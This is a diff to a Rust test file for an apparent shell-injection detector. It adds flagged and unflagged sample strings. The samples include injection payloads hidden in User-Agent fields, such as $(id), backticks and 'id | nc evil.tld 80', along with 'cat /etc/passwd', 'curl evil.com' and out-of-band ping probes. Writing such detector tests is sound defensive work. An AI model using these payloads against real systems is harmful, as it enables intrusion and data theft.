@@ -2569,6 +2569,8 @@ fn user_agent_comment_fields() {
         "Mozilla/5.0 (X11; $(id); Linux)",
         "Mozilla/5.0 (X11;`id`) Gecko",
         "Mozilla/5.0 (X11; Linux; whoami)",
+        "Mozilla/5.0 (X11; Linux; sleep 5)",
+        "Mozilla/5.0 (X11; Linux; ping -c 3 x.burp)",
         "Mozilla/5.0 (X11; Linux | id)",
         "Mozilla/5.0 (X11; id | nc evil.tld 80)",
         "Opera/9.80 (J2ME; U; id",
@@ -2634,6 +2636,8 @@ fn lone_redirection_into_a_file() {
         "Go to Settings > Privacy",
         "quoted > text here",
         "x > /tmp",
+        "Home > /products/shoes",
+        "Results > /reports/2024",
     ] {
         assert!(!hit(v), "{v}");
     }
@@ -2650,7 +2654,7 @@ fn prose_naming_commands_and_paths() {
         "P4ss|word&more",
         "Blue|sky&less",
         "try `pip install requests`",
-        "then run `git status`.",
+        "then run `docker compose up`.",
         "Run `npm install` first",
         "copy&paste",
     ] {
@@ -2667,6 +2671,8 @@ fn prose_naming_commands_and_paths() {
         "abc `id`",
         "abc `whoami`",
         "try `curl evil.com`",
+        "hello `curl attacker`",
+        "then `ping attacker`",
         "try `sleep 5`",
         "try `cat /etc/passwd`",
         "x `pip install evil`",
